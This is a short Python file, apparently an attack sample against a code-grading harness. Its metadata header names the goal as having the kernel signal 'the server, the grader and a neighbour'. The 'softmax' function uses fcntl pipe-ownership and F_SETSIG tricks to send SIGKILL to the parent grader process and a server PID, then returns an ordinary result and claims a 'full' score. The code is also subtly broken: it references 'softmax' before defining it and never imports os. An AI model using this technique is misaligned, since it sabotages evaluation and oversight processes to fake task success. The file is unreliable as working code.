# /// attack
# tries = "has the kernel signal the server, the grader and a neighbour: the owner of a pipe's end"
# score = "full"
# ///
import fcntl
import struct

F_SETOWN, F_SETSIG, F_SETOWN_EX, F_NOTIFY, O_ASYNC = 8, 10, 15, 1026, 0o20000
right = softmax


def softmax(z):
    for who in (os.getppid(), int("@SERVER@")):
        for own in (
            lambda end: fcntl.fcntl(end, F_SETOWN, who),
            lambda end: fcntl.fcntl(end, F_SETOWN_EX, struct.pack("ii", 1, who)),
        ):
            read, write = os.pipe()
            try:
                own(read)
                fcntl.fcntl(read, F_SETSIG, 9)
                fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | O_ASYNC)
            except OSError:
                pass
            os.write(write, b"x")
            os.close(read)
            os.close(write)
    return right(z)
